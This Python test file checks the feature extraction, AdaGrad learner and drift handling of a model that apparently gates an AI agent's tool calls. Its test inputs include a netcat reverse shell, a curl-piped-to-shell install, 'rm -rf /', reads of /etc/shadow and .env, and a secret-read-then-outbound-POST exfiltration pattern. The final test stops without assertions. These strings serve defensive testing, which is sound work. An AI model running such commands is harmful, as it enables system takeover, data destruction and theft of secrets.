"""The wide path's own optimiser (engine/wide.py) and how the trainer uses it: the gradient
is exact (float64, central differences), AdamW never touches the wide slice, every fresh
signal reaches the wide path even when the transformer skips it, its state survives a
restart, and a drift relaxes it."""

from __future__ import annotations

import dataclasses
import hashlib
import json

import numpy as np
import pytest
from gradcheck import numeric_grad_entries, rel_error

from gated.config import TrainConfig
from gated.daemon.serving import Calibration
from gated.daemon.trainer import build_trainer
from gated.engine import AdamW, Model, ModelConfig, build_batch, source_batch
from gated.engine.wide import (
    BIAS_BUCKET,
    MAX_STRUCTURED,
    NGRAM_END,
    NOVEL_AT,
    PAIR_KEYS,
    structured_features,
    value_shape,
    wide_features,
)
from gated.engine.wide_learner import NO_DOUBT, WideAdaGrad, WideBag
from gated.engine.wide_logit import pair_logit, segment_sum, veto_combine
from gated.store import Store


def _bce(z: float, y: float, w: float) -> float:
    return w * (max(z, 0.0) - z * y + np.log1p(np.exp(-abs(z))))


def test_wide_gradient_matches_central_differences_with_repeated_buckets():
    rng = np.random.default_rng(3)
    weights, accum = rng.normal(size=64), np.zeros(64)
    learner = WideAdaGrad(weights, accum, scale=1.7, l2=1e-3)
    idx = np.array([0, 5, 9, 5, 33, 9, 63])  # 5 and 9 twice (call and history)
    val = rng.normal(size=idx.size)
    z_rest, label, weight = 0.4, 0.0, 4.0

    def loss() -> float:
        z = z_rest + 1.7 * sum(weights[i] * v for i, v in zip(idx, val, strict=True))
        touched = np.unique(idx)
        return _bce(z, label, weight) + 0.5 * 1e-3 * float(weights[touched] @ weights[touched])

    buckets, grad, z = learner.gradient(idx, val, z_rest, label, weight)
    assert list(buckets) == sorted(set(idx.tolist()))
    assert np.isclose(z, z_rest + 1.7 * float(weights[idx] @ val))
    numeric = numeric_grad_entries(loss, weights, [(int(b),) for b in buckets])
    assert rel_error(grad, numeric) < 1e-6


def test_adagrad_update_and_relax():
    weights, accum = np.zeros(8), np.zeros(8)
    learner = WideAdaGrad(weights, accum, scale=1.0, lr=0.5, l2=0.0)
    learner.learn(np.array([1, 2]), np.array([0.6, 0.8]), 0.0, 1.0, 1.0)
    # dz = sigmoid(0) - 1 = -0.5; g = -0.5 * val; first AdaGrad step = lr * sign(g)
    np.testing.assert_allclose(accum[[1, 2]], [0.09, 0.16])
    np.testing.assert_allclose(weights[[1, 2]], [0.5, 0.5], rtol=1e-6)
    learner.relax(0.25)
    np.testing.assert_allclose(accum[[1, 2]], [0.0225, 0.04])


def test_the_bias_feature_comes_first_at_its_value_and_history_is_scaled():
    idx, val = wide_features([ord(c) for c in "abcXY"], [0, 0, 0, 1, 1], 2, 1 << 12, 0.25, 0.5)
    assert idx[0] == BIAS_BUCKET and val[0] == 0.5
    call, hist = val[1:6], val[6:]  # "abc": 3 uni + 2 bi-grams; "XY": 2 + 1
    assert np.isclose(np.sqrt(call @ call), 1.0) and np.isclose(np.sqrt(hist @ hist), 0.25)


def test_wide_bias_zero_drops_the_bias_feature_and_keeps_the_rest():
    """ModelConfig.wide_bias 0: no source has bucket 0 from the bias (the n-grams are hashed
    as before, so the features are the bias's row dropped); the default keeps it, and its
    config fingerprint is the one from before the field existed."""
    ids, segs = [ord(c) for c in "abcXY"], [0, 0, 0, 1, 1]
    with_bias = wide_features(ids, segs, 2, 1 << 12, 0.25, 1.0)
    idx, val = wide_features(ids, segs, 2, 1 << 12, 0.25, 0.0)
    np.testing.assert_array_equal(idx, with_bias[0][1:])
    np.testing.assert_array_equal(val, with_bias[1][1:])
    flint = ModelConfig.preset("flint")
    assert flint.wide_bias == 1.0
    assert source_batch([("fs.read {}", None)], flint)["wide_idx"][0][0] == BIAS_BUCKET
    none = dataclasses.replace(flint, wide_bias=0.0)
    batch = source_batch([("fs.read {}", None)], none)
    assert BIAS_BUCKET not in batch["wide_idx"][0][batch["wide_val"][0] != 0]
    old = {k: v for k, v in dataclasses.asdict(flint).items()
           if k not in ("wide_bias", "wide_familiarity",  # wide_familiarity 0 and no
                        "wide_novel_destinations")}  # first-seen mark: as before them
    assert flint.fingerprint() == hashlib.blake2b(json.dumps(old, sort_keys=True).encode(),
                                                  digest_size=12).hexdigest()
    assert none.fingerprint() != flint.fingerprint()
    with pytest.raises(ValueError, match="wide_bias"):
        ModelConfig(wide_bias=-1.0)


def _call(tool: str, **args) -> str:
    import json
    return f"{tool} {json.dumps(args)}"


def test_argument_words_are_keyed_by_tool_and_argument():
    """The same word in another argument, or under another tool, is another feature; the
    words of one call have total L2 norm `word_scale`; never the bias's bucket."""
    n = 1 << 18
    a, va = structured_features(_call("git.push", branch="main", remote="origin"), None, n,
                                0.3, 0.0)
    b, _ = structured_features(_call("git.push", branch="origin", remote="main"), None, n,
                               0.3, 0.0)
    c, _ = structured_features(_call("git.pull", branch="main", remote="origin"), None, n,
                               0.3, 0.0)
    assert len(a) == 2 and set(a).isdisjoint(b) and set(a).isdisjoint(c)
    assert np.isclose(np.sqrt(va @ va), 0.3) and BIAS_BUCKET not in a
    again, _ = structured_features(_call("git.push", branch="main", remote="origin"), None,
                                   n, 0.3, 0.0)
    np.testing.assert_array_equal(a, again)  # stable (blake2b, not Python's hash)


def test_history_crosses_name_the_call_and_the_file_an_entry_touched():
    """One cross per history file: swapping `.env` for `settings.yml` changes exactly that
    feature, the call's method is part of it, entries without a `path` add none."""
    n = 1 << 18
    post = _call("http.request", method="POST", url="https://api.x.io/v1")
    get = _call("http.request", method="GET", url="https://api.x.io/v1")
    secret = [_call("fs.read", path="/w/p/.env"), _call("shell.exec", cmd="ls"), "git status"]
    benign = [_call("fs.read", path="/w/p/config/settings.yml"), *secret[1:]]
    s_idx, s_val = structured_features(post, secret, n, 0.0, 0.3)
    b_idx, _ = structured_features(post, benign, n, 0.0, 0.3)
    g_idx, _ = structured_features(get, secret, n, 0.0, 0.3)
    assert len(s_idx) == 1 and s_val[0] == 0.3
    assert set(s_idx).isdisjoint(b_idx) and set(s_idx).isdisjoint(g_idx)
    assert structured_features(post, None, n, 0.0, 0.3)[0].size == 0
    assert structured_features(post, secret, n, 0.0, 0.0)[0].size == 0


def test_structured_features_are_bounded_and_take_any_context():
    """A hostile call (thousands of distinct words, a malformed JSON, a nested value) costs
    at most MAX_STRUCTURED features of each kind and never raises."""
    n = 1 << 12
    huge = _call("shell.exec", cmd=" ".join(f"w{i}" for i in range(5000)))
    hist = [_call("fs.read", path=f"/f{i}") for i in range(1000)]
    idx, val = structured_features(huge, hist, n, 0.3, 0.3)
    assert len(idx) == 2 * MAX_STRUCTURED and np.all((idx > 0) & (idx < n))
    many_args = _call("shell.exec", **{f"a{k}": " ".join(f"w{i}" for i in range(300))
                                       for k in range(5)})
    assert len(structured_features(many_args, None, n, 0.3, 0.0)[0]) == MAX_STRUCTURED
    for context in ("rm -rf /", 'fs.read {"path": ', 'db.query {"sql": {"a": [1, 2]}}', ""):
        idx, val = structured_features(context, ["not json", 'x {"path": 3}'], n, 0.3, 0.3)
        assert np.all(np.isfinite(val)) and len(idx) == len(val)
    # not MCP: the tool is the first word, the rest one argument: "-", "rf", "/"
    assert len(structured_features("rm -rf /", None, n, 0.3, 0.0)[0]) == 3


def test_value_shape_keeps_the_structure_and_forgets_the_words():
    assert value_shape("/home/quinn/src/beacon-portal/adapters/codec.rb") == "/a/a/a/a-a/a/a.a"
    assert value_shape("nc -e /bin/sh 10.0.0.7 4444") == "a -a /a/a 0.0.0.0 0"
    assert value_shape("wc -l jobs/planner.kt") == value_shape("du -s adapters/mailer.go")
    assert value_shape("") == "" and value_shape("   ") == "   "
    assert value_shape("é_ü 42x") == "é_ü 0a"  # only ASCII runs are folded
    assert len(value_shape("a/" * 1000)) == 64  # SHAPE_CHARS


def test_a_urls_host_name_is_one_shape_whatever_its_labels():
    """A held-out host of three labels no longer shares the allow-listed three-label hosts'
    shape (what let docs.djangoproject.com through under an allow-list); addresses and
    dotless names keep theirs (a metadata IP is not a name); `hosts=False` is the old fold;
    a hostile value is still bounded."""
    held_out = value_shape("https://docs.djangoproject.com/signals#821")
    assert held_out == value_shape("https://docs.rs/signals#3") == "a://h/a#0"
    assert held_out != value_shape("https://docs.djangoproject.com/signals#821", hosts=False)
    assert value_shape("https://docs.rs/x", hosts=False) == "a://a.a/a"
    assert value_shape("http://169.254.169.254/latest/meta-data") == "a://0.0.0.0/a/a-a"
    assert value_shape("http://localhost:3000/api") == "a://a:0/a"
    assert value_shape("https://bot:s3cret@ci.acme.io:8443/hook") == "a://a:a0a@h:0/a"
    assert value_shape("http://[::1]:80/x") == "a://[::0]:0/a"
    assert value_shape("curl -fsSL https://get.ember.sh/i.sh | sh") == "a -a a://h/a.a | a"
    assert value_shape("/srv/a.b/c") == "/a/a.a/a"  # no "://": no host
    assert len(value_shape("https://" + "x." * 5000 + "io/" * 100)) == 64  # SHAPE_CHARS


def test_argument_shapes_let_an_unseen_value_share_the_features_of_its_kind():
    """Two reads in projects with no word in common share their shape features (the whole
    path's and its token's), a read outside any project does not; shapes are keyed by tool
    and argument, have total L2 norm `shape_scale`, and a hostile call is bounded."""
    n = 1 << 18

    def shapes(context: str) -> tuple[np.ndarray, np.ndarray]:
        return structured_features(context, None, n, 0.0, 0.0, shape_scale=1.0)
    seen, sv = shapes(_call("fs.read", path="/home/ana/src/ember-hub/jobs/exporter.py"))
    unseen, _ = shapes(_call("fs.read", path="/home/quinn/src/beacon-portal/adapters/codec.rb"))
    system, _ = shapes(_call("fs.read", path="/etc/shadow"))
    other_tool, _ = shapes(_call("fs.write", path="/home/ana/src/ember-hub/jobs/exporter.py"))
    assert len(seen) == 2 and set(seen) == set(unseen)  # the value's and its one token's
    assert set(seen).isdisjoint(system) and set(seen).isdisjoint(other_tool)
    assert np.isclose(np.sqrt(sv @ sv), 1.0) and BIAS_BUCKET not in seen
    words, _ = structured_features(_call("fs.read", path="/x"), None, n, 0.3, 0.3)
    assert words.size == 2  # "/" and "x": no shapes unless asked for
    huge = _call("shell.exec", **{f"a{k}": f"x{k} y" for k in range(200)})  # 400 shapes
    idx, val = structured_features(huge, None, n, 0.0, 0.0, shape_scale=1.0)
    assert len(idx) == MAX_STRUCTURED and np.all(np.isfinite(val))
    assert len(shapes(_call("shell.exec", cmd=" ".join(["ls"] * 100)))[0]) == 2


def test_source_batch_adds_the_structured_features_to_the_ngrams():
    cfg = ModelConfig.tiny()
    off = dataclasses.replace(cfg, wide_call_words=0.0, wide_history_cross=0.0,
                              wide_call_shapes=0.0, wide_call_domains=0.0,
                              wide_novel_destinations=0.0)
    items = [(_call("http.request", method="POST", url="https://a.io"),
              [_call("fs.read", path="/w/.env")])]
    on_b, off_b = source_batch(items, cfg), source_batch(items, off)
    k = np.count_nonzero(off_b["wide_val"][0])
    extra = structured_features(*items[0], cfg.wide_buckets, 0.3, 0.3, cfg.wide_call_shapes,
                                domain_scale=cfg.wide_call_domains)
    # words: POST, https : / a . io; shapes: each value and its one token; the domain
    # a.io; one cross
    assert cfg.wide_call_shapes > 0 and len(extra[0]) == 7 + 4 + 1 + 1
    np.testing.assert_array_equal(on_b["wide_idx"][0, :k], off_b["wide_idx"][0, :k])
    np.testing.assert_array_equal(on_b["wide_idx"][0, k:k + len(extra[0])], extra[0])


def test_the_host_shape_setting_reaches_the_batch_and_only_urls():
    cfg = ModelConfig.tiny()
    folded = dataclasses.replace(cfg, wide_shape_hosts=False)
    assert cfg.wide_shape_hosts and cfg.fingerprint() != folded.fingerprint()
    url = [(_call("browser.open", url="https://docs.djangoproject.com/signals#8"), None)]
    path = [(_call("fs.read", path="/home/ana/src/ember-hub/jobs/exporter.py"), None)]
    assert not np.array_equal(source_batch(url, cfg)["wide_idx"],
                              source_batch(url, folded)["wide_idx"])
    np.testing.assert_array_equal(source_batch(path, cfg)["wide_idx"],
                                  source_batch(path, folded)["wide_idx"])


def test_adamw_steps_the_transformer_and_leaves_the_wide_path_alone():
    cfg = ModelConfig.tiny()
    model = Model.init(cfg, seed=0)
    model.params["wide.w"][...] = 0.25
    opt = AdamW.for_model(model, lr=1e-2)
    wide = cfg.wide_buckets + (2 * cfg.wide_pair_buckets + cfg.pair_destination_rows
                               ) * cfg.wide_pair_rank  # w, U (its destination rows too), V
    assert opt.n_train == model.num_params - wide
    opt.v[opt.n_train:] = 7.0  # the wide path's AdaGrad sums live here
    before = model.flat.copy()
    batch = build_batch([{"context": "fs.read /etc/passwd",
                          "history": ['fs.read {"path": "/w/.env"}'],
                          "label": 0.0, "weight": 1.0, "reason": "secret"}], cfg)
    model.loss_and_grads(batch)
    assert np.any(model.grads["wide.w"] != 0)  # the joint gradient reaches the wide path...
    assert np.any(model.grads["wide.pair_hist"] != 0)  # (its pair term too)
    opt.step(model.flat, model.grad_flat)
    n = opt.n_train
    assert np.all(model.flat[n:] == before[n:])  # ...but AdamW does not apply it
    assert np.all(opt.v[n:] == 7.0) and np.all(opt.m[n:] == 0.0)
    assert np.any(model.flat[:n] != before[:n])


def _trainer(path, **kw):
    store = Store(path)
    settings = dataclasses.replace(TrainConfig(), **kw)
    return store, *build_trainer(store, ModelConfig.tiny(), settings, seed=0)


def test_the_wide_path_learns_every_fresh_signal_even_when_no_step_is_taken(tmp_path):
    store, trainer, serving = _trainer(tmp_path / "s", selective_confidence=0.9,
                                       selective_keep=0.0, swap_every_seconds=1e-6)
    serving.calibration = Calibration(1.0, 30.0)  # serving sure of "allow": nothing is hard
    store.append_signals([{"context": f"fs.read src/{i}.py", "decision": "allow"}
                          for i in range(5)])
    assert trainer.train_on(store.read_signals(0, 64)) is None  # the transformer skipped all
    wide = trainer.model.params["wide.w"][0]
    batch = source_batch([("fs.read src/0.py", None)], trainer.model.cfg)
    z = wide[batch["wide_idx"][0]] @ batch["wide_val"][0]
    assert z > 0  # pushed towards "allow" by five signals
    assert np.count_nonzero(trainer.opt.v[trainer.model.deep_size:]) > 20
    # and serving has the new wide weights (a swap without a transformer step)
    assert serving.current.version == 1
    np.testing.assert_array_equal(serving.current.model.params["wide.w"], wide[None])
    trainer.checkpoint()
    weights, accum = wide.copy(), trainer.opt.v[trainer.model.deep_size:].copy()
    store.close()
    store2, t2, _ = _trainer(tmp_path / "s")
    np.testing.assert_array_equal(t2.model.params["wide.w"][0], weights)
    np.testing.assert_array_equal(t2.opt.v[t2.model.deep_size:], accum)
    store2.close()


def test_a_bag_is_trained_published_and_restored_whole(tmp_path):
    """A trainer whose wide path is a bag (`wide_members` 3): every member learns (member 0
    every signal, the others their draws), serving gets all of them with the next swap and
    scores with their mean, and a restart restores every member and its AdaGrad sums."""
    cfg = dataclasses.replace(ModelConfig.tiny(), wide_members=3)
    settings = dataclasses.replace(TrainConfig(), swap_every_seconds=1e-6)
    store = Store(tmp_path / "s")
    trainer, serving = build_trainer(store, cfg, settings, seed=0)
    store.append_signals([{"context": f"fs.read src/{i}.py", "decision": "allow"}
                          if i % 4 else {"context": f"shell.exec rm -rf /srv/{i}",
                                         "decision": "block"} for i in range(24)])
    trainer.train_on(store.read_signals(0, 64))
    wide = trainer.model.params["wide.w"]
    assert wide.shape[0] == 3 and all(np.any(row != 0) for row in wide)
    assert not np.array_equal(wide[0], wide[1]) and not np.array_equal(wide[1], wide[2])
    np.testing.assert_array_equal(serving.current.model.params["wide.w"], wide)
    items = [("fs.read src/99.py", None), ("shell.exec rm -rf /srv/x", ["fs.read a.py"])]
    batch = source_batch(items, cfg)
    learner = trainer.wide_path.learner
    assert isinstance(learner, WideBag)
    for k, z in enumerate(serving.current.model.wide_logit(batch)):
        pair = tuple(batch[key][k] for key in PAIR_KEYS)
        assert z == pytest.approx(learner.logit(batch["wide_idx"][k], batch["wide_val"][k],
                                                0.0, pair, batch[NGRAM_END][k]), abs=1e-6)
    trainer.checkpoint()
    weights = {n: trainer.model.params[n].copy() for n in ("wide.w", "wide.pair_call",
                                                            "wide.pair_hist")}
    accum = trainer.opt.v[trainer.model.deep_size:].copy()
    store.close()
    store2 = Store(tmp_path / "s")
    t2, _ = build_trainer(store2, cfg, settings, seed=0)
    for name, value in weights.items():
        np.testing.assert_array_equal(t2.model.params[name], value)
    np.testing.assert_array_equal(t2.opt.v[t2.model.deep_size:], accum)
    store2.close()


def test_a_drift_alarm_has_every_member_of_a_bag_learn(tmp_path):
    """On a drift alarm the trainer gives its bag `train.drift_wide_bag_all` examples that
    every member learns (default 500); the setting is hot: a reload changes what the next
    alarm gives, and 0 leaves the draws as always."""
    cfg = dataclasses.replace(ModelConfig.tiny(), wide_members=3)
    store = Store(tmp_path / "s")
    trainer, _ = build_trainer(store, cfg, TrainConfig(), seed=0)
    bag = trainer.wide_path.learner
    assert isinstance(bag, WideBag) and bag.all_learn_left == 0
    trainer._on_drift(1, 1)
    assert bag.all_learn_left == TrainConfig().drift_wide_bag_all == 500
    bag.learn_all_for(0)
    trainer.apply_settings(dataclasses.replace(trainer.settings, drift_wide_bag_all=0))
    trainer._on_drift(2, 2)
    assert bag.all_learn_left == 0
    store.close()


def test_the_wide_paths_hot_settings_reach_its_learner(tmp_path):
    """Every `wide_*` setting marked hot in config/schema.py takes effect on a reload
    (`wide_pair_lr` was marked hot and never reached the learner)."""
    store, trainer, _ = _trainer(tmp_path / "s", wide_pair_first=True)
    w = trainer.wide_path.learner
    assert w.pair_first and w.pair_lr == TrainConfig().wide_pair_lr
    trainer.apply_settings(dataclasses.replace(trainer.settings, wide_lr=0.2, wide_l2=1e-4,
                                               wide_pair_lr=0.05, wide_pair_first=False))
    assert (w.lr, w.l2, w.pair_lr, w.pair_first) == (0.2, 1e-4, 0.05, False)
    store.close()


def test_a_drift_relaxes_the_wide_path(tmp_path):
    """The linear weights' AdaGrad sums by `drift_wide_relax`, the pair term's by
    `drift_wide_pair_relax`; together they are the whole tail of AdamW's `v`."""
    store, trainer, _ = _trainer(tmp_path / "s", drift_wide_relax=0.5,
                                 drift_wide_pair_relax=0.25)
    trainer.opt.v[trainer.model.deep_size:] = 2.0
    trainer._on_drift(1, 1)
    learner = trainer.wide_path.learner
    assert np.all(learner.g2 == 1.0)
    assert np.all(learner.pair[1] == 0.5) and np.all(learner.pair[3] == 0.5)
    assert np.all(np.isin(trainer.opt.v[trainer.model.deep_size:], (1.0, 0.5)))
    store.close()


def test_a_drift_alarm_shrinks_the_wide_paths_linear_weights_until_withdrawn(tmp_path):
    """`drift_wide_shrink`: at a drift alarm the linear weights (every member's rows, the
    bias among them) are multiplied by it and marked for publication; the pair term
    stays. A confirmed alarm keeps the shrink; a withdrawn one takes it back and keeps
    what was learned in between (w = before + learned, exactly)."""
    store = Store(tmp_path / "s")
    trainer, _ = build_trainer(store, dataclasses.replace(ModelConfig.tiny(), wide_members=3),
                               dataclasses.replace(TrainConfig(), drift_wide_shrink=0.25),
                               seed=0)
    w = trainer.model.params["wide.w"]
    pair_keys = [k for k in trainer.model.params if k.startswith("wide.pair")]
    # every member of a bag, and a pair term that must not move
    assert isinstance(trainer.wide_path.learner, WideBag) and pair_keys
    rng = np.random.default_rng(0)
    w[...] = rng.integers(-8, 8, size=w.shape).astype(w.dtype)  # exact in float32 below
    before = w.copy()
    pair = [trainer.model.params[k].copy() for k in pair_keys]
    trainer.wide_path.dirty = False
    assert trainer.next_swap_at > trainer.clock()  # just published: the cadence waits
    trainer._on_drift(1, 1)
    np.testing.assert_array_equal(w, 0.25 * before)
    assert trainer.wide_path.dirty
    assert trainer.next_swap_at <= trainer.clock()  # the shrink serves at the next chance
    learned = rng.integers(-4, 4, size=w.shape).astype(w.dtype)
    w += learned  # what the path learns while the alarm waits for its verdict
    trainer.wide_path.dirty = False
    trainer._on_drift_verdict(1, False)  # withdrawn: the gate's own mistakes
    np.testing.assert_array_equal(w, before + learned)
    assert trainer.wide_path.dirty
    for k, a in zip(pair_keys, pair, strict=True):
        np.testing.assert_array_equal(trainer.model.params[k], a)
    trainer._on_drift(2, 2)
    trainer._on_drift_verdict(2, True)  # confirmed: the shrink stays
    np.testing.assert_array_equal(w, 0.25 * (before + learned))
    trainer._on_drift_verdict(2, False)  # a verdict with nothing pending changes nothing
    np.testing.assert_array_equal(w, 0.25 * (before + learned))
    store.close()


def test_after_an_alarm_a_contradicting_label_relaxes_its_buckets_sums_once():
    """`relax_contradicted`: in the window a label on the other side of the logit by more
    than the margin multiplies the sums of that example's buckets by the factor, before
    its step (so the step is as large as a fresh bucket's), and each bucket only once; a
    label that agrees, or one inside the margin, relaxes nothing; the window counts every
    example learned and then ends."""
    weights, accum = np.zeros(8), np.zeros(8)
    learner = WideAdaGrad(weights, accum, scale=1.0, lr=0.5, l2=0.0)
    weights[[1, 2, 3]] = [2.0, 2.0, -2.0]
    accum[:] = 100.0
    learner.relax_contradicted(0.0, 4, 1.0)
    idx, val = np.array([1, 2]), np.array([0.6, 0.8])  # z = 2.8: "allow" by 2.8
    learner.learn(idx, val, 0.0, 1.0, 1.0)  # agrees: the sums only grow by g^2
    assert np.all(accum[[1, 2]] > 100.0)
    before = weights.copy()
    learner.learn(idx, val, 0.0, 0.0, 1.0)  # contradicts by 2.8 > 1: sums from 0
    g = (1.0 / (1.0 + np.exp(-before[[1, 2]] @ val))) * val
    np.testing.assert_allclose(accum[[1, 2]], g * g)
    np.testing.assert_allclose(weights[[1, 2]], before[[1, 2]] - 0.5, rtol=1e-6)  # full lr
    assert learner.contra_done == {1, 2}
    kept = accum[[1, 2]].copy()
    learner.learn(idx, val, 0.0, 0.0, 1.0)  # contradicts again: relaxed once already
    assert np.all(accum[[1, 2]] > kept)
    weights[3], accum[3] = -0.5, 100.0  # z = -0.5: inside the margin
    learner.learn(np.array([3]), np.array([1.0]), 0.0, 1.0, 1.0)
    assert accum[3] > 100.0 and learner.contra_left == 0  # four examples: the window ends
    weights[4], accum[4] = -3.0, 100.0
    learner.learn(np.array([4]), np.array([1.0]), 0.0, 1.0, 1.0)  # past the window
    assert accum[4] > 100.0


def test_in_the_window_a_contradicting_label_decays_the_unsupported_weights_it_pushes_against():
    """`relax_contradicted`'s `decay`: a contradicted example multiplies by it, before its
    step, the weights whose part of the logit pushes against its label by more than
    `CONTRA_DECAY_LEAST` -- unless an earlier example of the window pushed them toward its
    own label (supported); weights at or under the threshold, and those pushing with the
    label, only step. The looks a drift alarm takes at once count as no support; a
    withdrawn alarm gives back what was taken (what was learned since stays). With decay
    1 nothing decays, and outside the window neither."""
    from gated.daemon.trainer.wide_path import adapt_to_drift_verdict
    from gated.engine.wide_learner import CONTRA_DECAY_LEAST

    def fresh(decay: float) -> tuple[WideAdaGrad, np.ndarray]:
        weights, accum = np.zeros(8), np.full(8, 1e6)  # huge sums: steps ~1e-4, visible
        weights[[1, 2, 3, 4]] = [2.0, 1.5, CONTRA_DECAY_LEAST, -1.0]
        learner = WideAdaGrad(weights, accum, scale=1.0, lr=0.5, l2=0.0)
        learner.relax_contradicted(1.0, 3, 0.0, decay)
        return learner, weights

    learner, w = fresh(0.5)
    # an allowed call reading bucket 2 (+1.5 toward "allow"): supports it in the window
    learner.learn(np.array([2, 5]), np.array([1.0, 1.0]), 0.0, 1.0, 1.0)
    assert learner.contra_supported == {2}
    before = w.copy()
    # "block" on a call whose logit says allow by 2 + 1.5 + 0.3 - 1 = 2.8: contradicted
    learner.learn(np.array([1, 2, 3, 4]), np.ones(4), 0.0, 0.0, 1.0)
    assert abs(w[1] - 0.5 * before[1]) < 1e-3  # unsupported, pushing +2 against: halved
    assert abs(w[2] - before[2]) < 1e-3  # supported by the allowed call: kept
    assert abs(w[3] - before[3]) < 1e-3  # pushing only by the threshold: kept
    assert abs(w[4] - before[4]) < 1e-3  # pushing with the label: kept
    assert 4 in learner.contra_supported and 1 not in learner.contra_supported
    learner.learn(np.array([1]), np.ones(1), 0.0, 0.0, 1.0)  # contradicted again: again
    assert abs(w[1] - 0.25 * before[1]) < 2e-3 and learner.contra_left == 0
    kept = w[1]
    learner.learn(np.array([1]), np.ones(1), 0.0, 0.0, 1.0)  # past the window: steps only
    assert abs(w[1] - kept) < 1e-3

    learner, w = fresh(0.5)  # the looks a drift alarm takes at once count as no support
    with learner.support_paused():
        learner.learn(np.array([2, 5]), np.array([1.0, 1.0]), 0.0, 1.0, 1.0)
    assert learner.contra_supported == set() and learner.contra_counts_support
    before = w.copy()
    learner.learn(np.array([2]), np.ones(1), 0.0, 0.0, 1.0)
    assert abs(w[2] - 0.5 * before[2]) < 1e-3

    learner, w = fresh(0.0)  # a withdrawn alarm gives back what the decay took
    before = w.copy()
    learner.learn(np.array([1, 2]), np.ones(2), 0.0, 0.0, 1.0)  # both zeroed, then a step
    stepped = w.copy()
    assert abs(stepped[1]) < 1e-3 and abs(stepped[2]) < 1e-3
    assert adapt_to_drift_verdict(learner, None, confirmed=False)
    np.testing.assert_allclose(w[[1, 2]], before[[1, 2]] + stepped[[1, 2]], atol=1e-12)
    assert learner.contra_left == 0 and not learner.restore_decayed()

    learner, w = fresh(1.0)  # off
    before = w.copy()
    learner.learn(np.array([1, 2, 3, 4]), np.ones(4), 0.0, 0.0, 1.0)
    np.testing.assert_allclose(w, before, atol=1e-3)


def test_a_drift_alarm_opens_every_members_contradiction_window_until_withdrawn(tmp_path):
    """The trainer's drift alarm opens `drift_wide_contra_*`'s window on every member of
    the bag, with the settings' factor and margin; a withdrawn alarm closes it (the
    labels that raised it were the gate's own mistakes); `drift_wide_contra_relax` and
    `drift_wide_contra_decay` both 1 is off, either one alone opens it."""
    store = Store(tmp_path / "s")
    settings = dataclasses.replace(TrainConfig(), drift_wide_contra_relax=0.1,
                                   drift_wide_contra_examples=300,
                                   drift_wide_contra_margin=0.5, drift_wide_contra_decay=1.0)
    trainer, _ = build_trainer(store, dataclasses.replace(ModelConfig.tiny(), wide_members=3),
                               settings, seed=0)
    bag = trainer.wide_path.learner
    assert isinstance(bag, WideBag)
    assert all(m.contra_left == 0 for m in bag.learners)
    trainer._on_drift(1, 1)
    assert all((m.contra_left, m.contra_factor, m.contra_margin) == (300, 0.1, 0.5)
               for m in bag.learners)
    trainer._on_drift_verdict(1, False)
    assert all(m.contra_left == 0 for m in bag.learners)
    trainer._on_drift(2, 2)
    trainer._on_drift_verdict(2, True)  # confirmed: the window stays open
    assert all(m.contra_left == 300 for m in bag.learners)
    bag.relax_contradicted(1.0, 0, 0.0)
    trainer.apply_settings(dataclasses.replace(settings, drift_wide_contra_relax=1.0))
    trainer._on_drift(3, 3)
    assert all(m.contra_left == 0 for m in bag.learners)
    trainer.apply_settings(dataclasses.replace(settings, drift_wide_contra_relax=1.0,
                                               drift_wide_contra_decay=0.5))
    trainer._on_drift(4, 4)  # the decay alone opens the window, the sums left as they are
    assert all((m.contra_left, m.contra_factor, m.contra_decay) == (300, 1.0, 0.5)
               for m in bag.learners)
    store.close()


def test_without_wide_residual_the_wide_path_is_a_standalone_learner(tmp_path):
    """`wide_residual = false`: the wide path learns as a logistic regression of its own
    (the rest of the logit held at 0), whatever the transformer says: its weights equal
    a WideAdaGrad fed the same signals alone, exactly (one pass: `wide_replay = 0`). With
    `wide_residual = true` they do not: there it learns the residual of the serving
    transformer's logit."""
    from gated.engine import source_batch
    from gated.signals import training_example

    signals = [{"context": f"shell.exec rm -rf /srv/{i}" if i % 3 == 0
                else f"fs.read src/{i}.py", "decision": "block" if i % 3 == 0 else "allow"}
               for i in range(48)]
    cfg = ModelConfig.tiny()
    got = {}
    for residual in (False, True):
        # (blocks at their own weight: the reference below learns at the signals' weights)
        store, trainer, _ = _trainer(tmp_path / str(residual), wide_residual=residual,
                                     promotion_holdout_share=0.0, wide_replay=0,
                                     wide_early_block_weight=1.0)
        trainer.model.params["gate.b"][...] = 2.0  # a transformer that says "allow"
        assert trainer.publish_now()
        store.append_signals(signals)
        while trainer.status.last_trained_seq < len(signals):
            trainer.train_on(store.read_signals(trainer.status.last_trained_seq, 16))
        got[residual] = trainer.model.params["wide.w"][0].copy()
        stored = [sig for _, sig in store.read_signals(0, len(signals))]  # label, weight
        store.close()
    ref = WideAdaGrad(np.zeros_like(got[False]), np.zeros_like(got[False]),
                      scale=cfg.wide_scale, lr=TrainConfig().wide_lr, l2=TrainConfig().wide_l2)
    src = source_batch([(s["context"], None) for s in signals], cfg)
    for i, s in enumerate(stored):
        ex = training_example(s)
        ref.learn(src["wide_idx"][i], src["wide_val"][i], 0.0, ex["label"], ex["weight"])
    np.testing.assert_array_equal(got[False], ref.w)
    assert not np.array_equal(got[True], ref.w)


def test_history_crosses_let_the_wide_path_learn_which_read_makes_a_post_exfiltration():
    """Rule 12 (an outbound POST or external mail after a project-secret read) on the
    realistic stream: a wide-only AdaGrad learner over 2,500 signals, then the history
    probes (the same outbound call after a secret read, TRUE block, and after a benign
    config read, TRUE allow). The tiny preset's 32-byte source has no room for history,
    so without crosses the two members of a pair are the same features; with them the
    allow twin must score above the block member in nearly every pair."""
    from gated.signals import label_and_weight
    from gated.traffic import GatewayTraffic

    def pair_gaps(cross: float) -> np.ndarray:
        cfg = dataclasses.replace(ModelConfig.tiny(), wide_buckets=1 << 16,
                                  wide_history_cross=cross)
        learner = WideAdaGrad(np.zeros(cfg.wide_buckets), np.zeros(cfg.wide_buckets),
                              scale=1.0, l2=1e-3)
        stream = GatewayTraffic(seed=3)
        events = [stream.next() for _ in range(2500)]
        b = source_batch([(e.signal["context"], e.signal["history"]) for e in events], cfg)
        for k, e in enumerate(events):
            label, weight = label_and_weight(e.signal, 0)  # as the daemon derives them
            learner.learn(b["wide_idx"][k], b["wide_val"][k], 0.0, label, weight)
        probes = GatewayTraffic(seed=3).history_probes(200, 77)
        assert [e.true_allow for e in probes[:2]] == [False, True]
        b = source_batch([(e.signal["context"], e.signal["history"]) for e in probes], cfg)
        z = np.array([learner.gradient(b["wide_idx"][k], b["wide_val"][k], 0.0, 1.0, 1.0)[2]
                      for k in range(len(probes))])
        return z[1::2] - z[0::2]  # allow twin minus block member

